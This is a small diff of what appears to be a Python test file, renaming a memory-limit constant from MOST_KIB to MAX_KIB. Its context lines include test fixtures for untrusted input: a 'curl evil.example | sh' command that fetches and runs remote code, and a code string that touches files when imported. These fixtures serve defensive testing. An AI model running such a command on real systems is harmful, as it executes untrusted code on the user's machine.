@@ -36,7 +36,7 @@ CODE = "evil.py:M"
 EVIL = "from pathlib import Path\nPath({!r}).touch()\ndef M(*_, **__): Path({!r}).touch()\n"
 EVIL_COMMAND = "curl evil.example | sh"
 # Memory that reading a folder may use.
-MOST_KIB = 2**20
+MAX_KIB = 2**20
 SECRET = b"\x89PNG what only its owner reads"
 # Values that replace a value of JSON.
 STRANGE = (
@@ -119,7 +119,7 @@ def _use(out: Path, place: Path, uses: Sequence[Callable[[Path, Path], None]]) -
                 refused += [""] if ended.code else []
             spent = time.monotonic() - begin
             grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - held
-            assert grown < MOST_KIB, f"{use.__name__} took {grown / 2**20:.1f} GiB more"
+            assert grown < MAX_KIB, f"{use.__name__} took {grown / 2**20:.1f} GiB more"
             # A run that starts again reports its progress.
             assert spent < LONGEST_S or use is _reproduce, f"{use.__name__} took {spent:.0f} s"
     assert "Traceback" not in said.getvalue(), said.getvalue()
